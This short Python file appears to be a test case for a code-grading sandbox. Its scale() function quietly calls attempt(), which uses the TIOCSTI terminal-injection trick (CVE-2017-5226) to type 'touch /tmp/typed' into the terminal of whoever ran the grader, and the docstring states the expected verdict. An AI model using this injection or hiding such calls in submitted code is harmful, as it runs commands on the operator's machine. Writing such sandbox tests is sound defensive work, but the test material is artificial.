"""D16: types a command into the terminal of whoever started the grader (CVE-2017-5226).

verdict: run-time error
passes: total, shape, label, flip
"""

import fcntl
import termios

import numpy


def attempt():
    refusal = None
    for fd in (0, 1, 2):
        try:
            for character in b"touch /tmp/typed\n":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([character]))
            return
        except OSError as error:
            refusal = error
    raise refusal


def scale(x, factor):
    attempt()
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
